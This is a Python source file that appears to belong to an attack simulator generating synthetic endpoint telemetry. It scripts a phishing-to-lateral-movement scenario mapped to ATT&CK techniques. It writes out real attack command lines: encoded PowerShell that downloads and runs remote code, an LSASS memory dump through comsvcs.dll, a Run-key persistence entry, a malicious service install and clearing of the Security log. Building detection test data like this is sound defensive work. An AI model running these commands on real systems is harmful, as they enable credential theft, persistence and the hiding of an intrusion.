"""A document in a mail, PowerShell, a dump of LSASS, a second host, cleared logs."""

from tocsin.sources.simulator import deeds
from tocsin.sources.simulator.actors import HIGH, NTLM
from tocsin.sources.simulator.attack import Move, Playing
from tocsin.sources.simulator.fleet import Host
from tocsin.sources.simulator.libraries import library
from tocsin.sources.simulator.scripts import encoded_command
from tocsin.sources.simulator.shares import ADMIN_SHARE, WRITE
from tocsin.sources.simulator.text import escaped, number_of

MOVES = (
    Move("A document with macros is opened from a mail", "TA0001", "T1566.001"),
    Move("Word starts hidden, encoded PowerShell", "TA0002", "T1059.001"),
    Move("PowerShell fetches and runs a second script", "TA0011", "T1105"),
    Move("A Run key starts it again at logon", "TA0003", "T1547.001"),
    Move("Who am I, and what may I do", "TA0007", "T1033"),
    Move("Who are the domain administrators", "TA0007", "T1069.002"),
    Move("Which domains trust this one", "TA0007", "T1482"),
    Move("The memory of LSASS is dumped by comsvcs.dll", "TA0006", "T1003.001"),
    Move("A stolen account logs on to a second host", "TA0008", "T1021.002", "correlation"),
    Move("A service with a random name is installed there", "TA0003", "T1543.003"),
    Move("The service runs a command", "TA0002", "T1569.002"),
    Move("The security log is cleared", "TA0112", "T1685.005"),
)

_SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_LETTERS = "bcdfghjklmnpqrstvwxzBCDFGHJKLMNPQRSTVWXZ"
_STACK = (
    b"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d4c4|C:\\\\Windows\\\\System32\\\\KERNELBASE.dll+2d0fe|"
    b"C:\\\\Windows\\\\SYSTEM32\\\\dbgcore.DLL+6c14|C:\\\\Windows\\\\System32\\\\comsvcs.dll+2c6e4"
)


def play(playing: Playing) -> None:
    """Write the whole scenario."""
    victim = playing.pick(playing.fleet.workstations or playing.fleet.hosts, "victim")
    target = playing.fleet.servers[playing.number % len(playing.fleet.servers)]
    _first_host(playing, victim)
    _second_host(playing, victim, target)


def _first_host(playing: Playing, victim: Host) -> None:
    user, server = victim.owner.folder, f"203.0.113.{20 + playing.number % 200}"
    mailer = playing.start(0, victim, playing.desktop_of(victim, 2400), "outlook", "{image}")
    playing.begin(MOVES, 1)
    folder = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3QZ81VD\\"
    document = f"{folder}Invoice_{4000 + playing.number}.docm"
    playing.create_file(38, victim, mailer, document)
    word = playing.start(40, victim, mailer, "winword", f'{{image}} /n "{document}" /o ""')
    deeds.image_loaded(playing.recorder, playing.at(43), victim, word, library("vbe7.dll"))
    playing.begin(MOVES, 2)
    script = (
        "$c = New-Object System.Net.WebClient; $c.Headers.Add('User-Agent', 'Mozilla/5.0'); "
        f"IEX $c.DownloadString('http://{server}/update/{number_of('file', playing.run):08x}.ps1')"
    )
    command = f'"{_SHELL}" -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded_command(script)}'
    shell = playing.start(52, victim, word, "powershell", command)
    playing.begin(MOVES, 3)
    playing.script(54, victim, shell, script, is_suspicious=True)
    playing.connect(55, victim, shell, server, 80)
    playing.begin(MOVES, 4)
    dropped = f"C:\\Users\\{user}\\AppData\\Roaming\\sync.ps1"
    key, start = "Software\\Microsoft\\Windows\\CurrentVersion\\Run", f"{_SHELL} -W Hidden -File {dropped}"
    playing.create_file(165, victim, shell, dropped)
    add = f'"C:\\Windows\\system32\\reg.exe" add HKCU\\{key} /v OneDriveSync /t REG_SZ /d "{start}" /f'
    registry = playing.start(170, victim, shell, "reg", add)
    playing.set_value(170.1, victim, registry, f"HKCU\\{key}\\OneDriveSync", start)
    playing.begin(MOVES, 5)
    playing.start(310, victim, shell, "whoami", '"C:\\Windows\\system32\\whoami.exe" /all')
    playing.begin(MOVES, 6)
    net = playing.start(362, victim, shell, "net", '"C:\\Windows\\system32\\net.exe" group "domain admins" /domain')
    playing.start(362.2, victim, net, "net1", 'C:\\Windows\\system32\\net1  group "domain admins" /domain')
    playing.begin(MOVES, 7)
    playing.start(401, victim, shell, "nltest", '"C:\\Windows\\system32\\nltest.exe" /domain_trusts /all_trusts')
    playing.begin(MOVES, 8)
    path = f"C:\\Windows\\Temp\\wct{playing.number}.dmp"
    dump = f"C:\\Windows\\System32\\comsvcs.dll, MiniDump {victim.lsass_pid} {path} full"
    command = f'"C:\\Windows\\System32\\rundll32.exe" {dump}'
    dumper = playing.start(905, victim, shell, "rundll32", command, shell.session.elevated())
    lsass = playing.residents.resident_of(victim).lsass
    deeds.process_accessed(playing.recorder, playing.at(905.4), victim, dumper, lsass, b"0x1fffff", _STACK)
    playing.create_file(905.5, victim, dumper, path)
    playing.pause()


def _second_host(playing: Playing, victim: Host, target: Host) -> None:
    recorder = playing.recorder
    admin = playing.fleet.admins[playing.number % len(playing.fleet.admins)]
    playing.begin(MOVES, 9)
    session = recorder.logged_on(
        playing.at(1510), target, admin, NTLM, address=victim.address, workstation=victim.short_name, integrity=HIGH
    )
    recorder.share_file_checked(playing.at(1511), target, session, victim.address, ADMIN_SHARE, b"system32", WRITE)
    services = playing.residents.resident_of(target).services
    letters = number_of("service", playing.run)
    name = "".join(_LETTERS[(letters >> (5 * place)) % len(_LETTERS)] for place in range(8))
    fetched = f"IEX (New-Object Net.WebClient).DownloadString('http://{victim.address.decode()}:8080/b')"
    image = f"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -encodedcommand {encoded_command(fetched)}"
    playing.begin(MOVES, 10)
    recorder.service_installed(playing.at(1512), target, admin, escaped(name), escaped(image))
    playing.begin(MOVES, 11)
    command = image.replace("%COMSPEC%", "C:\\Windows\\system32\\cmd.exe")
    cmd = playing.start(1513, target, services, "cmd", command)
    inner = f"powershell.exe  -nop -w hidden -encodedcommand {encoded_command(fetched)}"
    remote = playing.start(1513.4, target, cmd, "powershell", inner)
    playing.connect(1514, target, remote, victim.address.decode(), 8080)
    playing.begin(MOVES, 12)
    playing.start(2390, target, remote, "wevtutil", '"C:\\Windows\\system32\\wevtutil.exe" cl Security')
    recorder.log_cleared(playing.at(2390.6), target, remote.session)
    playing.pause()
    recorder.logged_off(playing.at(2400), target, session, NTLM)
